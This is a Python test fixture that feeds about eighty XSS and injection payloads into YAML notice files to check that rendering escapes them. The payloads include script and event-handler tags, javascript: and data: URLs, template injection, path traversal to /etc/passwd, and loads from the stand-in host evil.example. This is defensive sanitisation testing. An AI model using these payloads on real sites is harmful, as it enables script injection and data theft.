"""Record text that would be a program: it is honest text, is published, and must stay inert."""

from tests.corpus.case import NOTICE, NOTICE_PATH, Case

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>点</a>",
    "<style>*{display:none}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a></form>",
    "<!-- <script> --><script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[点](javascript:alert(1))",
    "[点](JaVaScRiPt:alert(1))",
    "[点](java&#x0A;script:alert(1))",
    "[点](&#106;avascript:alert(1))",
    "[点](javascript&colon;alert(1))",
    "[点](vbscript:msgbox(1))",
    "[点](data:text/html,<script>alert(1)</script>)",
    "[点](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[点](file:///etc/passwd)",
    "[点](http://evil.example/)",
    "[点](<javascript:alert(1)>)",
    "[点][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![图](https://evil.example/track.png)",
    "![图](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    '[点](https://a.example "onmouseover=alert(1)")',
    '[点](https://a.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:1) |",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "{attach}/../../etc/passwd",
    "[点]({static}/../x)",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<a href=" &#14; javascript:alert(1)">点</a>',
    "<a href='java\nscript:alert(1)'>点</a>",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>点</text></a></svg>",
    "<img src=//evil.example/track.png>",
    "<img srcset='//evil.example/a.png 2x'>",
    "<iframe src=//evil.example/></iframe>",
    "<div style='background:url(//evil.example/a.png)'>字</div>",
    "<div " + "<b>" * 500,
    "<div>" * 2000,
    "[" * 5000,
    "*" * 5000,
    "> " * 500 + "深",
    "[点](//evil.example/)",
    "[点](\\\\evil.example)",
    "[点](javascript:alert(1) 'x')",
    "[点](\\x01javascript:alert(1))",
    "[点](tel:javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![图](https://evil.example/a.png)](https://a.example)",
    "<https://a.example/'onclick=alert(1)//>",
    "https://a.example/<script>alert(1)</script>",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "'-alert(1)-'",
    '" autofocus onfocus=alert(1) x="',
    "</main></body></html><script>alert(1)</script>",
    "expression(alert(1))",
]

ONE_LINE = [one for one in VECTORS if "\n" not in one and len(one) < 120]
"""Those that also fit a title."""


def block(text: str) -> str:
    """`text` as the value of a key, whatever it holds."""
    return "|-\n" + "".join(f"  {line}\n" for line in text.split("\n"))


def quoted(text: str) -> str:
    """`text` as a quoted value on one line."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


CASES = [
    *[Case("HTML and Markdown", NOTICE_PATH, f"{NOTICE}text: {block(one)}".encode(), ()) for one in VECTORS],
    *[
        Case("autoescape", NOTICE_PATH, NOTICE.replace("title: 停水通知", f"title: {quoted(one)}").encode(), ())
        for one in ONE_LINE
    ],
]
